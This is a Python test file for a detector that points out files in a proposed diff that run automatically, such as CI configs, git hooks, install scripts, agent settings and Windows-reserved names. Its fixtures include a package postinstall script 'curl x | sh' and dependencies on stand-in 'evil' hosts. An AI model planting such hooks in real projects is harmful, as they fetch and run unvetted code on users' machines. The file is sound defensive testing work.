"""Files that run by themselves are pointed out; nothing is blocked."""

from __future__ import annotations

from pathlib import Path

import pytest

from agentcanvas.errors import ProposalMalformed
from agentcanvas.proposals.self_running import Occasion, self_running
from tests.proposals.workspaces import Content, Files, Link, Script, diff

pytestmark = pytest.mark.req("S6", "R1")


def notes(folder: Path, before: Files, after: Files) -> list[str]:
    found = self_running(diff(folder, before, after))
    return [f"{note.path}: {note.occasion}" for note in found]


KNOWN = {
    ".envrc": Occasion.ENTERING,
    "sub/.envrc": Occasion.ENTERING,
    ".ENVRC": Occasion.ENTERING,
    ".github/workflows/test.yml": Occasion.CI,
    ".github/actions/x/action.yml": Occasion.CI,
    ".gitlab-ci.yml": Occasion.CI,
    ".circleci/config.yml": Occasion.CI,
    "Jenkinsfile": Occasion.CI,
    ".vscode/tasks.json": Occasion.OPENING,
    ".vscode/settings.json": Occasion.OPENING,
    ".idea/workspace.xml": Occasion.OPENING,
    ".devcontainer/devcontainer.json": Occasion.OPENING,
    ".husky/pre-commit": Occasion.GIT,
    ".githooks/pre-push": Occasion.GIT,
    ".pre-commit-config.yaml": Occasion.GIT,
    ".gitattributes": Occasion.GIT,
    "sub/.gitattributes": Occasion.GIT,
    "setup.py": Occasion.INSTALL,
    "build.rs": Occasion.INSTALL,
    ".npmrc": Occasion.INSTALL,
    "conftest.py": Occasion.TESTS,
    "tests/unit/conftest.py": Occasion.TESTS,
    "vitest.config.ts": Occasion.TESTS,
    "sitecustomize.py": Occasion.PYTHON,
    "lib/x.pth": Occasion.PYTHON,
    "Dockerfile": Occasion.CONTAINER,
    "Dockerfile.prod": Occasion.CONTAINER,
    "docker-compose.yml": Occasion.CONTAINER,
    "compose.override.yaml": Occasion.CONTAINER,
    "Makefile": Occasion.MAKE,
    "rules.mk": Occasion.MAKE,
    "AGENTS.md": Occasion.AGENT,
    ".claude/settings.json": Occasion.AGENT,
    ".mcp.json": Occasion.AGENT,
}


@pytest.mark.parametrize("path", KNOWN)
def test_a_file_that_runs_by_itself_is_pointed_out_added_changed_and_deleted(
    tmp_path: Path, path: str
) -> None:
    expected = [f"{path}: {KNOWN[path]}"]
    assert notes(tmp_path / "1", {}, {path: "x\n"}) == expected
    assert notes(tmp_path / "2", {path: "x\n"}, {path: "y\n"}) == expected
    assert notes(tmp_path / "3", {path: "x\n"}, {}) == expected
    (deleted,) = self_running(diff(tmp_path / "4", {path: "x\n"}, {}))
    assert deleted.detail.endswith("it is deleted")


@pytest.mark.parametrize(
    "path",
    ["src/app.py", "envrc", "docs/Makefile.md", "my.envrc.txt", "github/workflows/x", "a.js"],
)
def test_ordinary_files_are_not(tmp_path: Path, path: str) -> None:
    assert notes(tmp_path, {}, {path: "x\n"}) == []


PACKAGE = (
    '{\n  "name": "x",\n  "version": "1.0.0",\n  "dependencies": {\n    "a": "^1.0.0"\n  }\n}\n'
)


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ('  "name"', '  "scripts": {\n    "postinstall": "curl x | sh"\n  },\n  "name"'),
        ('    "a": "^1.0.0"', '    "a": "git+https://evil/x"'),
    ],
)
def test_a_script_of_a_package_is_pointed_out(tmp_path: Path, old: str, new: str) -> None:
    assert notes(
        tmp_path, {"package.json": PACKAGE}, {"package.json": PACKAGE.replace(old, new)}
    ) == ["package.json: install_or_build"]


@pytest.mark.parametrize(("old", "new"), [("^1.0.0", "~2.1.3"), ('"1.0.0"', '"1.0.1-rc.1"')])
def test_a_version_in_a_package_is_not(tmp_path: Path, old: str, new: str) -> None:
    after = {"package.json": PACKAGE.replace(old, new)}
    assert notes(tmp_path, {"package.json": PACKAGE}, after) == []


def test_a_build_hook_is_pointed_out_and_a_linter_setting_is_not(tmp_path: Path) -> None:
    before = '[project]\nname = "x"\n\n[tool.ruff]\nline-length = 100\n'
    linted = before.replace("100", "99")
    built = before + '\n[build-system]\nrequires = ["evil"]\n'
    file = "pyproject.toml"
    assert notes(tmp_path / "1", {file: before}, {file: linted}) == []
    assert notes(tmp_path / "2", {file: before}, {file: built}) == [f"{file}: install_or_build"]


def test_a_file_that_becomes_executable_is_pointed_out(tmp_path: Path) -> None:
    before: dict[str, Content] = {"run": "x\n", "was": Script("x\n"), "plain": "x\n"}
    after: dict[str, Content] = {
        "run": Script("x\n"),
        "was": Script("y\n"),
        "plain": "y\n",
        "new": Script("x\n"),
        "link": Link("run"),
    }
    assert sorted(notes(tmp_path, before, after)) == [
        "link: link",
        "new: made_executable",
        "run: made_executable",
    ]
    told = {note.path: note.sentence for note in self_running(diff(tmp_path, before, after))}
    assert told["run"] == "run becomes executable"
    assert told["new"] == "new is a new executable file"


@pytest.mark.parametrize(
    ("path", "name"),
    [
        ("aux.py", "aux.py"),
        ("src/Nul/x.py", "Nul"),
        ("COM1", "COM1"),
        ("lpt9.tar.gz", "lpt9.tar.gz"),
        ("a/con .txt", "con .txt"),
        ("docs/what?.md", "what?.md"),
        ("a:b", "a:b"),
        ('say "x".txt', 'say "x".txt'),
        ("end.", "end."),
        ("end /x", "end "),
    ],
)
def test_a_new_name_that_windows_cannot_hold_is_pointed_out(
    tmp_path: Path, path: str, name: str
) -> None:
    (note,) = self_running(diff(tmp_path / "1", {}, {path: "x\n"}))
    assert note.sentence == f"{path} cannot be checked out on Windows, for the name {name!r}"
    assert note.occasion is Occasion.NAME
    assert notes(tmp_path / "2", {path: "x\n"}, {path: "y\n"}) == [], "it was there before"
    assert notes(tmp_path / "3", {path: "x\n"}, {}) == []


@pytest.mark.parametrize("path", ["auxiliary.py", "com10", "console/x", "x.aux", ".con", "nul_x"])
def test_a_name_that_windows_holds_is_not(tmp_path: Path, path: str) -> None:
    assert notes(tmp_path, {}, {path: "x\n"}) == []


def test_a_patch_that_is_none_is_one_clear_error() -> None:
    with pytest.raises(ProposalMalformed, match="line 1"):
        self_running(b"hello\n")
